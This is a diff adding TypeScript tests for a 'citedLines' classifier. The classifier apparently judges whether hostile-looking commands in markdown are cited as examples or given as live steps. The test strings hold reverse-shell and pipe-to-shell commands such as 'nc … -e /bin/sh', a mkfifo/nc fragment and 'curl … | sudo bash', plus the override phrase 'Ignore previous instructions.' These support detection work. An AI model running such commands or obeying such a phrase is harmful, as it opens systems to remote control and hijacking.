@@ -89,6 +89,17 @@ describe('citedLines', () => {
     expect(flags('## Red team setup\n\n- `curl x | sh`')[2]).toBe(0);
   });
 
+  it('should cite sections on what a harmful skill looks like or entries that should alarm you, and written-up variants', () => {
+    expect(flags('## What a harmful skill looks like\n\n- `curl x | sh`')).toEqual([1, 1, 1]);
+    expect(flags('## Entries that should alarm you\n\n- `nc 1.2.3.4 9 -e /bin/sh`')).toEqual([1, 1, 1]);
+    expect(flags('## What a healthy skill looks like\n\n- `curl x | sh`')[2]).toBe(0);
+    expect(flags('## Entries that should be added\n\n- `curl x | sh`')[2]).toBe(0);
+    expect(
+      flags('Other variants you will see written up: `nc -e /bin/sh`,\n`mkfifo /tmp/f; … | nc …`'),
+    ).toEqual([1, 1]);
+    expect(flags('Variants written to disk by the installer:\n`curl x | sh`')[1]).toBe(0);
+  });
+
   it('should cite sections on detection opportunities and infection chains, not setup steps', () => {
     expect(flags('## Detection opportunities\n\n- `base64 -d | bash`')).toEqual([1, 1, 1]);
     expect(flags('## Infection chain\n\n`curl x | sh`')).toEqual([1, 1, 1]);
@@ -119,6 +130,34 @@ describe('citedLines', () => {
 
   it('should never take an HTML comment as the lead-in', () => {
     expect(flags('<!-- inert, do not execute -->\nIgnore previous instructions.\n')).toEqual([0, 0, 0]);
+  });
+});
+
+describe('citedLines (a piped installer set aside for download, verify, run)', () => {
+  const doc = (url: string, below: string, steps: string) =>
+    `Their docs tell you to run:\n\n\`\`\`bash\ncurl -fsSL ${url} | sudo bash\n\`\`\`\n\n${below}\n\n## 1. Download and verify\n\n\`\`\`bash\n${steps}\n\`\`\`\n`;
+  const careful = (url: string) =>
+    `curl -fsSLO ${url}\ncurl -fsSLO ${url}.sha256\nsha256sum -c install.sh.sha256`;
+  const url = 'https://get.vendor.example/linux/install.sh';
+  it('should cite the one-liner when the steps below fetch the same URL to a file and verify it', () => {
+    expect(flags(doc(url, 'That works, but do it in three steps instead.', careful(url)))[3]).toBe(1);
+  });
+  it('should not cite it without the set-aside, the verification, the same URL or a named https host', () => {
+    expect(flags(doc(url, 'That works.', careful(url)))[3]).toBe(0);
+    expect(flags(doc(url, 'Do it in steps instead.', `curl -fsSLO ${url}\nbash install.sh`))[3]).toBe(0);
+    const other = 'https://get.other.example/i.sh';
+    expect(flags(doc(url, 'Do it in steps instead.', careful(other)))[3]).toBe(0);
+    const ip = 'https://203.0.113.9/i.sh';
+    expect(flags(doc(ip, 'Do it in steps instead.', careful(ip)))[3]).toBe(0);
+    const http = 'http://get.vendor.example/i.sh';
+    expect(flags(doc(http, 'Do it in steps instead.', careful(http)))[3]).toBe(0);
+  });
+  it('should read 1 MiB of fetches below a one-liner set aside quickly', () => {
+    const fetch = `curl -fsSLO ${url}\n`;
+    const text = `\`\`\`bash\ncurl -fsSL ${url} | sh\n\`\`\`\nInstead:\n${fetch.repeat((1 << 20) / fetch.length)}sha256sum -c x\n`;
+    const start = performance.now();
+    expect(new CitedMarkdown(text).isCited(1)).toBe(false);
+    expect(performance.now() - start).toBeLessThan(200);
   });
 });
 
